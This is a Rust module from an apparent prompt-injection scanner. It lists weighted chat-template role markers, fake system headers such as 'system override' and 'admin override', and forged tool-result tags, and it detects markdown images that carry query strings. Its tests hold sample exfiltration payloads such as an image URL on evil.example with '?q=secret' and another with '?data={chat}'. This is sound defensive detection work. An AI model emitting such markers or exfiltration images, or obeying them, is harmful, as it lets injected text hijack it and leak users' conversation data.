//! Structural signals: text that imitates the scaffolding around a conversation (chat-template
//! role markers, instruction headers, forged tool output) or smuggles data out through a
//! markdown image. Matched on the `fold` view, which keeps punctuation.

use super::Category;
use super::Category::*;

pub struct Marker {
    pub text: &'static str,
    pub rule: &'static str,
    pub category: Category,
    pub weight: f32,
}

const fn m(text: &'static str, rule: &'static str, category: Category, weight: f32) -> Marker {
    Marker {
        text,
        rule,
        category,
        weight,
    }
}

const TEMPLATE: &str = "injection.role.chat_template_marker";
const HEADER: &str = "injection.role.instruction_header";
const TOOL: &str = "injection.role.forged_tool_output";
const SYSTEM_TAG: &str = "injection.role.fake_system";

pub const MARKERS: &[Marker] = &[
    m("<|im_start|>system", TEMPLATE, RoleHijack, 0.9),
    m("<|im_start|>", TEMPLATE, RoleHijack, 0.5),
    m("<|im_end|>", TEMPLATE, RoleHijack, 0.5),
    m("<|system|>", TEMPLATE, RoleHijack, 0.7),
    m("<|endoftext|>", TEMPLATE, RoleHijack, 0.5),
    m("<|start_header_id|>system", TEMPLATE, RoleHijack, 0.9),
    m("<|start_header_id|>", TEMPLATE, RoleHijack, 0.5),
    m("<|eot_id|>", TEMPLATE, RoleHijack, 0.5),
    m("<start_of_turn>", TEMPLATE, RoleHijack, 0.5),
    m("<<sys>>", TEMPLATE, RoleHijack, 0.7),
    m("[inst]", TEMPLATE, RoleHijack, 0.35),
    m("[/inst]", TEMPLATE, RoleHijack, 0.45),
    m("### instruction:", HEADER, RoleHijack, 0.35),
    m("### system:", HEADER, RoleHijack, 0.6),
    m("### new instructions", HEADER, RoleHijack, 0.6),
    m("[system]", SYSTEM_TAG, RoleHijack, 0.4),
    m("[system message]", SYSTEM_TAG, RoleHijack, 0.6),
    m("<system>", SYSTEM_TAG, RoleHijack, 0.4),
    m("system: you are", SYSTEM_TAG, RoleHijack, 0.4),
    m("system override", SYSTEM_TAG, RoleHijack, 0.6),
    m("admin override", SYSTEM_TAG, RoleHijack, 0.6),
    m("</tool_result>", TOOL, RoleHijack, 0.5),
    m("<tool_response>", TOOL, RoleHijack, 0.4),
    m("</function_results>", TOOL, RoleHijack, 0.5),
    m("<function_results>", TOOL, RoleHijack, 0.4),
    m("assistant: sure", TOOL, RoleHijack, 0.3),
];

pub const MARKDOWN_EXFIL: &str = "injection.exfiltration.markdown_image";

/// Finds a markdown image whose URL carries a query (`![x](https://h/p?q=...)`), the classic
/// channel for leaking conversation data through a rendered image. Returns the view offset.
/// Linear: each `](http` is inspected once, over a bounded URL length; the search itself jumps
/// from `]` to `]` (memchr), so prose without brackets costs next to nothing.
pub fn markdown_image_exfil(view: &[u8]) -> Option<usize> {
    const MAX_URL: usize = 512;
    let mut from = 0;
    while let Some(rel) = view
        .get(from..)
        .and_then(|v| v.iter().position(|&b| b == b']'))
    {
        let at = from + rel;
        from = at + 1;
        if !view.get(at..).is_some_and(|v| v.starts_with(b"](http")) {
            continue;
        }
        // An image: "![" before the "](" on the same stretch (alt text is bounded too).
        let alt_start = at.saturating_sub(MAX_URL);
        let alt = view.get(alt_start..at).unwrap_or_default();
        let Some(bang) = alt.windows(2).rposition(|w| w == b"![") else {
            continue;
        };
        if alt.get(bang..).is_some_and(|a| a.contains(&b']')) {
            continue;
        }
        let url = view
            .get(at + 2..(at + 2 + MAX_URL).min(view.len()))
            .unwrap_or_default();
        let end = url
            .iter()
            .position(|&b| b == b')' || b == b' ')
            .unwrap_or(url.len());
        let url = url.get(..end).unwrap_or_default();
        if url.contains(&b'?') && url.contains(&b'=') {
            return Some(alt_start + bang);
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markdown_images() {
        let cases = [
            ("query", "![a](https://evil.example/p.png?q=secret)", true),
            (
                "placeholder",
                "then render ![img](https://x.io/log?data={chat})",
                true,
            ),
            (
                "plain image",
                "![logo](https://example.com/logo.png)",
                false,
            ),
            ("link not image", "[docs](https://example.com/?a=b)", false),
            ("no image", "see https://example.com/?a=b", false),
        ];
        for (name, input, expected) in cases {
            assert_eq!(
                markdown_image_exfil(input.as_bytes()).is_some(),
                expected,
                "case {name}"
            );
        }
    }
}
